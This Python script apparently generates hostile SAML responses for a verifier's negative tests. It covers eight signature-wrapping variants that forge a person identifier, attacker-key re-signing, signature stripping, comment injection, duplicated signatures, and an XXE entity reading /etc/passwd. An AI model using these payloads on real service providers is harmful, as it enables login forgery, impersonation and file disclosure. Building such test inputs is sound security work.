#!/usr/bin/env python3
"""Builds hostile SAMLResponses from a valid one, with third-party XML tooling (lxml, and
signxml to re-sign with a given key), for signgate's SAML negative tests.

Usage: saml_attacks.py VARIANT --idp-key K --idp-cert C  < valid_b64  > hostile_b64

The valid input is a pysaml2 response with a plain (unencrypted) assertion. Variants:
  xsw1..xsw8    the signature-wrapping attacks of Somorovsky et al. ("On Breaking SAML",
                2012), as SAML Raider implements them: xsw1/xsw2 wrap the signed Response
                (input: signed response, unsigned assertion), xsw3..xsw8 the signed
                Assertion (input: unsigned response, signed assertion). The evil copy says
                PersonIdentifier SE/NO/EVIL000000000.
  expired       NotOnOrAfter of Conditions and SubjectConfirmationData in the past,
                assertion re-signed with the IdP key
  audience      Audience replaced by another SP, re-signed with the IdP key
  unsigned      assertion signature removed (input: unsigned response, signed assertion)
  otherkey      assertion re-signed with a freshly generated key (its cert in KeyInfo)
  comment       a comment injected inside the (signed) PersonIdentifier value: the
                signature still verifies (exc-c14n drops comments)
  comment_nameid the same inside NameID
  dtd           an internal DTD with an external entity (XXE) prepended
  doubly        the assertion signature duplicated (element signed twice)
"""

import base64
import copy
import datetime
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from signxml import XMLSigner

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
DS = "{%s}" % NS["ds"]
PID = "http://eidas.europa.eu/attributes/naturalperson/PersonIdentifier"
EVIL = "SE/NO/EVIL000000000"
EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"


def x(node, path):
    return node.xpath(path, namespaces=NS)


def assertion_of(root):
    return x(root, "saml:Assertion")[0]


def set_pid(assertion, value):
    for v in x(assertion, ".//saml:Attribute[@Name='%s']/saml:AttributeValue" % PID):
        v.text = value
    for n in x(assertion, "saml:Subject/saml:NameID"):
        n.text = value


def strip_sig(el):
    for s in x(el, "ds:Signature"):
        el.remove(s)


SPLICE = {}


def resign(assertion, key_pem, cert_pem):
    """Re-signs the assertion (enveloped, exc-c14n, rsa-sha256), Signature after Issuer.

    The signed assertion is spliced back into the serialized response as text: re-parenting
    it in lxml would rename its ds: prefix to the response's and so change the canonical
    SignedInfo (exclusive C14N is prefix-sensitive).
    """
    strip_sig(assertion)
    issuer = x(assertion, "saml:Issuer")[0]
    placeholder = etree.Element(DS + "Signature", nsmap={"ds": NS["ds"]})
    placeholder.set("Id", "placeholder")
    issuer.addnext(placeholder)
    standalone = etree.fromstring(etree.tostring(assertion))
    signed = XMLSigner(c14n_algorithm=EXC).sign(
        standalone, key=key_pem, cert=cert_pem, reference_uri=assertion.get("ID"), id_attribute="ID"
    )
    marker = etree.Element("signgate-splice")
    assertion.getparent().replace(assertion, marker)
    SPLICE[b"<signgate-splice/>"] = etree.tostring(signed)


def other_key():
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    return (
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()),
        cert.public_bytes(serialization.Encoding.PEM),
    )


def xsw(root, n):
    if n in (1, 2):
        # The signed Response is wrapped; an evil Response becomes the document element.
        sig = x(root, "ds:Signature")[0]
        original = copy.deepcopy(root)
        evil = copy.deepcopy(root)
        strip_sig(evil)
        evil.set("ID", "_evil_response")
        set_pid(assertion_of(evil), EVIL)
        evil_sig = copy.deepcopy(sig)
        if n == 1:
            # original (with its signature removed) inside the evil root's Signature
            strip_sig(original)
            evil_sig.append(original)
            x(evil, "saml:Issuer")[0].addnext(evil_sig)
        else:
            # original (unsigned copy) as a sibling before the signature
            strip_sig(original)
            x(evil, "saml:Issuer")[0].addnext(evil_sig)
            evil_sig.addprevious(original)
        return evil
    a = assertion_of(root)
    evil = copy.deepcopy(a)
    strip_sig(evil)
    set_pid(evil, EVIL)
    if n == 3:
        evil.set("ID", "_evil_assertion")
        a.addprevious(evil)
    elif n == 4:
        evil.set("ID", "_evil_assertion")
        root.replace(a, evil)
        evil.append(a)
    elif n == 5:
        # evil assertion keeps the original signature; an unsigned copy of the original at the end
        sig = x(a, "ds:Signature")[0]
        original = copy.deepcopy(a)
        strip_sig(original)
        x(evil, "saml:Issuer")[0].addnext(copy.deepcopy(sig))
        root.replace(a, evil)
        root.append(original)
    elif n == 6:
        # evil assertion with the signature; the original copy inside that signature
        sig = copy.deepcopy(x(a, "ds:Signature")[0])
        original = copy.deepcopy(a)
        strip_sig(original)
        sig.append(original)
        x(evil, "saml:Issuer")[0].addnext(sig)
        root.replace(a, evil)
    elif n == 7:
        # the signed original hidden in an Extensions element, evil assertion read instead
        ext = etree.SubElement(root, "{%s}Extensions" % NS["samlp"])
        root.replace(a, evil)
        evil.set("ID", "_evil_assertion")
        ext.append(a)
        x(root, "saml:Issuer")[0].addnext(ext)
    elif n == 8:
        # evil assertion with the signature; the original inside a ds:Object of it
        sig = copy.deepcopy(x(a, "ds:Signature")[0])
        original = copy.deepcopy(a)
        strip_sig(original)
        obj = etree.SubElement(sig, DS + "Object")
        obj.append(original)
        x(evil, "saml:Issuer")[0].addnext(sig)
        root.replace(a, evil)
    return root


def main():
    variant = sys.argv[1]
    opts = dict(zip(sys.argv[2::2], sys.argv[3::2]))
    key_pem = open(opts["--idp-key"], "rb").read()
    cert_pem = open(opts["--idp-cert"], "rb").read()
    raw = base64.b64decode(sys.stdin.read())
    root = etree.fromstring(raw)
    if variant.startswith("xsw"):
        root = xsw(root, int(variant[3:]))
    elif variant == "expired":
        a = assertion_of(root)
        past = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
        for el in x(a, "saml:Conditions | saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData"):
            el.set("NotOnOrAfter", past)
        resign(a, key_pem, cert_pem)
    elif variant == "audience":
        a = assertion_of(root)
        for el in x(a, "saml:Conditions/saml:AudienceRestriction/saml:Audience"):
            el.text = "https://another-sp.example/metadata"
        resign(a, key_pem, cert_pem)
    elif variant == "unsigned":
        strip_sig(assertion_of(root))
    elif variant == "otherkey":
        k, c = other_key()
        a = assertion_of(root)
        set_pid(a, EVIL)
        resign(a, k, c)
    elif variant in ("comment", "comment_nameid"):
        a = assertion_of(root)
        if variant == "comment":
            v = x(a, ".//saml:Attribute[@Name='%s']/saml:AttributeValue" % PID)[0]
        else:
            v = x(a, "saml:Subject/saml:NameID")[0]
        text = v.text
        v.text = text[:-4]
        c = etree.Comment("")
        c.tail = text[-4:]
        v.append(c)
    elif variant == "doubly":
        a = assertion_of(root)
        sig = x(a, "ds:Signature")[0]
        sig.addnext(copy.deepcopy(sig))
    elif variant != "dtd":
        sys.exit("unknown variant " + variant)
    out = etree.tostring(root)
    for marker, text in SPLICE.items():
        out = out.replace(marker, text)
    if variant == "dtd":
        body = raw.decode()
        if body.startswith("<?xml"):
            body = body[body.index("?>") + 2 :]
        out = ('<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body.replace(
            "Svensson", "&xxe;", 1)).encode()
    sys.stdout.write(base64.b64encode(out).decode())


if __name__ == "__main__":
    main()
